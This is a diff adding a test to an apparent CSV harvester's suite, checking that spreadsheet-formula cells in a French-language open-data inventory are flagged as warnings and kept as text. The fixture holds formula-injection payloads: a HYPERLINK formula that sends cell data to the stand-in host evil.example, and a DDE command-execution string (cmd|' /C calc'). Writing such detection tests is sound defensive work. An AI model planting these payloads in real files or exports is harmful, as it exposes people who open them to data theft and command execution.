@@ -218,6 +218,38 @@ describe('CSV harvest over HTTP', () => {
     expect(batches(events)[0]?.invalidIdentifiers).toEqual([]);
   });
 
+  it('flags cells that a spreadsheet would run as formulas (csv_formula_cell, naming the column) and keeps them as data', async () => {
+    // Issue 4's hostile case: an institution's inventory (or whoever edited it) carries formulas.
+    const body =
+      'identifiant;titre;description;url;téléphone\r\n' +
+      'f-1;=HYPERLINK("http://evil.example/?d="&A1,"Cliquez");Analyses;https://data.gov.ma/f-1;+212 537 00 00 00\r\n' +
+      'f-2;Réseau;@SUM(A1:A9);https://data.gov.ma/f-2;\r\n' +
+      'f-3;Pluie;"\t=1+1";https://data.gov.ma/f-3;\r\n' +
+      "=cmd|' /C calc'!A0;Barrages;-2+3+cmd|' /C calc'!A0;https://data.gov.ma/f-4;\r\n" +
+      'f-5;- voir annexe;-5 % sur un an, +3 en 2024 @ministère;https://data.gov.ma/f-5;\r\n';
+    const s = await serve(routes({ '/formules.csv': { headers: { 'content-type': 'text/csv; charset=utf-8' }, body } }));
+    const { events, error } = await run({ url: `${s.base}/formules.csv` });
+    expect(error).toBeUndefined();
+    const recs = records(events);
+    expect(recs.map((r) => r.identifier)).toEqual(['f-1', 'f-2', 'f-3', "=cmd|' /C calc'!A0", 'f-5']);
+    // Stored as published (trimmed): neutralising is the CSV writer's job, not the harvester's.
+    expect(recs[0]?.title['']).toBe('=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")');
+    expect(recs[1]?.description['']).toBe('@SUM(A1:A9)');
+    expect(recs[2]?.description['']).toBe('=1+1');
+    const formulas = problems(events).filter((p) => p.code === 'csv_formula_cell');
+    expect(formulas.map((p) => [p.severity, p.identifier, p.field])).toEqual([
+      ['warning', 'f-1', 'title'],
+      ['warning', 'f-2', 'description'],
+      ['warning', 'f-3', 'description'],
+      ['warning', "=cmd|' /C calc'!A0", 'identifier'],
+      ['warning', "=cmd|' /C calc'!A0", 'description'],
+    ]);
+    expect(formulas[0]?.message).toMatch(/^line 2: column "titre" \(title\) holds "=HYPERLINK\(.*, which a spreadsheet would run as a formula; kept as text/);
+    expect(formulas[3]?.message).toContain('column "identifiant" (identifier)');
+    // A phone number, a negative figure, a dash or an @ in prose are data, not formulas; row 5 is clean.
+    expect(problems(events).filter((p) => p.identifier === 'f-5')).toEqual([]);
+  });
+
   it('puts invalid rows with a known identifier in invalidIdentifiers', async () => {
     const s = await serve(routes({ '/i.csv': { body: 'id;titre\na;Eau\nb;\nc;Air\n' } }));
     const { events } = await run({ url: `${s.base}/i.csv` });
